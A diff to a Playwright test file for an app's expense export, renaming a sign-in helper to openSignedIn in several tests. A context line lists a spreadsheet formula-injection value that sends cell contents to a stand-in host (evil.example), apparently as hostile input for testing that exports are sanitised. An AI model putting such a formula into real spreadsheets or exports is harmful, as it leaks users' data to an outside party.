@@ -3,7 +3,7 @@ import type { Page } from '@playwright/test'
 import { idToken } from './accounts.ts'
 import { hasOffice, hasPoppler, openSpreadsheet, pdfPages } from './office.ts'
 import { expect, test } from './product.ts'
-import { signIn } from './steps.ts'
+import { openSignedIn } from './steps.ts'
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?"&A1,"klik")',
@@ -47,7 +47,7 @@ test('an export that fails says so, keeps the choice and then downloads the CSV'
     { description: 'Server', amount: 4.5, currency: 'USD', category: 'Business' },
   ])
   const page = await openPhone()
-  await signIn(page, email)
+  await openSignedIn(page, email)
   const dialog = await openExport(page)
   await dialog.getByText('CSV').click()
   await page
@@ -95,7 +95,7 @@ test('a report is shown alone, asks to be printed and leaves the page as it was'
   await page.addInitScript(() => {
     window.print = () => document.documentElement.toggleAttribute('data-printed')
   })
-  await signIn(page, email)
+  await openSignedIn(page, email)
   const dialog = await openExport(page)
   await dialog.getByText('All').click()
   await dialog.getByRole('button', { name: 'Export' }).click()
